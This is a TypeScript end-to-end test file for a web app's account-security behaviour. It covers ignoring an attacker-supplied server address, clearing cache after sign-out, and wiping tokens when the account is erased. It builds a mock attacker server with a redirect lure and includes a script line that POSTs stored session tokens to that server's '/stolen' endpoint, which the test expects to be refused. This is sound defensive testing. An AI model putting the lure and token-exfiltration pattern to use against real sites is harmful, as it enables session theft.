import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { TEST_PASSWORD, postJson, requestJson } from '../support/accounts';
import { matchPeople, registerPerson, type Person as Account } from '../support/matches';
import { keptOf, on, signIn, useWebAppStage, type WebPerson } from '../support/webAppDriver';

/** What a server of someone else's heard from the browser. */
interface Heard {
  readonly method: string;
  readonly url: string;
  readonly authorization: string | undefined;
  readonly body: string;
}

/**
 * A server an attacker runs: it grants every origin (CORS), answers a join TOKEN_EXPIRED (which
 * would draw the refresh token out of a client) and keeps whatever reaches it. Its /lure.html
 * sends a visitor to the genuine app at `target`, naming this server in the address.
 */
async function startRecorder(target: () => string): Promise<{ readonly url: string; readonly heard: Heard[]; close(): Promise<void> }> {
  const heard: Heard[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      if (req.url === '/favicon.ico') return void res.writeHead(404).end(); // the browser's own asking, for the lure page
      if (req.url === '/lure.html') {
        const to = `${target()}?server=${encodeURIComponent(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)}`;
        res.writeHead(200, { 'content-type': 'text/html' }).end(`<script>location.href = ${JSON.stringify(to)};</script>`);
        return;
      }
      heard.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization, body });
      const cors = {
        'access-control-allow-origin': req.headers.origin ?? '*', 'access-control-allow-credentials': 'true',
        'access-control-allow-headers': 'authorization, content-type', 'access-control-allow-methods': 'GET, POST, PATCH, PUT, DELETE',
      };
      if (req.method === 'OPTIONS') return void res.writeHead(204, cors).end();
      const code = req.url?.startsWith('/matchmake') ? 'TOKEN_EXPIRED' : 'UNAVAILABLE';
      res.writeHead(401, { ...cors, 'content-type': 'application/json' }).end(JSON.stringify({ code, message: `${code}: try again` }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

describe('the reference web app keeps an account to its own node and leaves nothing of it behind', function () {
  const stage = useWebAppStage();
  const appAt = () => `${stage.node.url}/app/`;
  let recorder: Awaited<ReturnType<typeof startRecorder>> | undefined;
  before(async () => {
    recorder = await startRecorder(appAt);
  });
  after(() => recorder?.close());

  /** `account`, signed in through the app the node serves, with its Matches tab open on `other`. */
  const onMatches = async (name: string, account: Account, other: Account): Promise<WebPerson> => {
    const person = await stage.people.open(name, appAt());
    await signIn(person, account.email);
    await on(person, 'tab-matches').click();
    await on(person, 'match-row', other.card.title).waitFor();
    return person;
  };

  it('sends nothing to a server a link names in the address, and works with its own node there, sign-in included', async () => {
    const account = await registerPerson(stage.node.url, 'Ada');
    const ada = await stage.people.open('Ada', appAt());
    await signIn(ada, account.email);
    // A browser an earlier version of the app left pointed elsewhere keeps that setting no longer either.
    await ada.page.evaluate((url) => localStorage.setItem('kismet.server', url), recorder!.url);

    // Signed in, Ada follows a link: a page elsewhere sends her to the genuine app with ?server=<its server>.
    await ada.page.goto(`${recorder!.url}/lure.html`);
    await ada.page.waitForURL((url) => url.href.startsWith(appAt()) && url.searchParams.has('server'));
    await on(ada, 'tab-discover').waitFor();
    await on(ada, 'tab-matches').click();
    await on(ada, 'tab-profile').click();
    // She signs out and in again there, password and all.
    await on(ada, 'sign-out').click();
    await signIn(ada, account.email);
    // A script on the page could not send the tokens there either: the page may connect to its node alone.
    const sent = await ada.page.evaluate(
      (url) => fetch(`${url}/stolen`, { method: 'POST', body: localStorage.getItem('kismet.tokens') }).then(() => 'sent', () => 'refused'),
      recorder!.url,
    );

    assert.equal(sent, 'refused');
    assert.deepEqual(recorder!.heard, []);
    assert.equal(await ada.page.evaluate(() => localStorage.getItem('kismet.server')), null);
    // Nor did the app try to (its policy would have refused it, and said so): the only refusal is of that script's request.
    assert.deepEqual(ada.problems.filter((problem) => !problem.includes(`${recorder!.url}/stolen`)), []);
  });

  it('keeps none of the account’s answers in the browser’s cache once signed out', async () => {
    const [casey, robin] = await Promise.all([registerPerson(stage.node.url, 'Casey'), registerPerson(stage.node.url, 'Robin_SECRETMATCH')]);
    await matchPeople(casey, robin, [stage.node.url, stage.node.url]);
    const person = await onMatches('Casey', casey, robin);
    await on(person, 'tab-profile').click();
    await on(person, 'sign-out').click();
    await on(person, 'email').waitFor();

    // The next person at this browser asks for what the app fetched, from the cache if it has it.
    const cached = await person.page.evaluate(async (paths) => {
      const answers = await Promise.all(paths.map((path) => fetch(path, { cache: 'force-cache' })));
      return Promise.all(answers.map(async (answer) => `${answer.status} ${await answer.text()}`));
    }, ['/me/threads', '/me/cards', `/cards/${robin.card.id}`]);
    for (const answer of cached) assert.match(answer, /^401 .*TOKEN_MISSING/, answer);
    assert.equal(cached.some((answer) => answer.includes('SECRETMATCH')), false);
  });

  it('forgets the tokens and the matches when the account is erased from another device, open or not', async () => {
    const [dee, eli] = await Promise.all([registerPerson(stage.node.url, 'Dee'), registerPerson(stage.node.url, 'Eli')]);
    await matchPeople(dee, eli, [stage.node.url, stage.node.url]);
    const tab = await onMatches('Dee', dee, eli);
    const kept = await tab.page.evaluate(() => Object.fromEntries(Object.entries(localStorage)));
    assert.equal((await keptOf(tab)).length, 2, 'tokens and matches kept while signed in');
    // Another browser of hers, closed meanwhile, keeps the same.
    const closed = await stage.people.open('Dee elsewhere', appAt());
    await closed.page.evaluate((entries) => Object.entries(entries).forEach(([key, value]) => localStorage.setItem(key, value)), kept);

    // From her phone: she logs in and erases the account.
    const phone = await postJson<{ accessToken: string }>(stage.node.url, '/auth/login', { email: dee.email, password: TEST_PASSWORD });
    const erased = await requestJson(stage.node.url, 'DELETE', '/me', { token: phone.body.accessToken, body: { password: TEST_PASSWORD } });
    assert.equal(erased.status, 200);

    // The open tab hears its session end, and shows the sign-in form with nothing of her left.
    await on(tab, 'email').waitFor();
    assert.deepEqual(await keptOf(tab), []);
    // The closed one, opened again, finds its sign-in refused, and forgets it the same.
    await closed.page.reload();
    await on(closed, 'email').waitFor();
    assert.deepEqual(await keptOf(closed), []);
  });
});
